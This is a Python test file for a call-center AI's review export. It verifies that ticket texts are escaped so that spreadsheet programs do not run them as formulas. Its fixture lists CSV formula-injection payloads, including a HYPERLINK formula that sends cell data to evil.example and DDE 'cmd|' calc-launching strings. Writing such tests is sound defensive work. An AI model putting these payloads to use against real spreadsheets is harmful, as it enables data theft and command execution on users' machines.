"""The training export (data/feedback/reviewed.csv) on a real SQLite review store.

Reviewers open that file in spreadsheets, and anyone can type a ticket: a text a
spreadsheet would run as a formula is defused there, and ``prepare`` still reads
the same training text back.
"""

from __future__ import annotations

import csv

import pytest

from callcenterai.config import PrepareParams
from callcenterai.feedback import read_feedback
from callcenterai.fileio import FORMULA_STARTS
from callcenterai.review.export import export_reviewed, model_text
from callcenterai.review.store import ReviewStore
from callcenterai.text import normalize_text
from tests.helpers import REVIEW_LABELS, flagged_record

CRAFTED = [
    '=HYPERLINK("http://evil.example/?d="&A1,"printer broken")',
    "+cmd|'/c calc'!A0 screen flickers",
    "-2+3 monitors missing",
    "@SUM(1+1)*cmd|' /C calc'!A0 vpn down",
    "\tmail <EMAIL> about access",
    "\r=1+1 keyboard",
    "an ordinary ticket = fine",
]


@pytest.fixture()
def store(tmp_path):
    store = ReviewStore(f"sqlite:///{tmp_path / 'review.db'}")
    store.migrate()
    store.add_flagged([flagged_record("Access", text=text) for text in CRAFTED])
    for ticket in store.pending(limit=100):
        store.record_review(ticket.id, "ana", "Hardware", REVIEW_LABELS)
    yield store
    store.engine.dispose()


def test_no_exported_cell_starts_a_formula_and_prepare_reads_the_same_text(store, tmp_path):
    out = tmp_path / "reviewed.csv"
    assert export_reviewed(store, out, "Document", "Topic_group") == len(CRAFTED)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert rows and all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    read_back = read_feedback(out, PrepareParams())
    expected = sorted(normalize_text(model_text(text)) for text in CRAFTED)
    assert sorted(read_back["text"]) == expected
    assert any(cell.startswith("'=") for row in rows for cell in row)
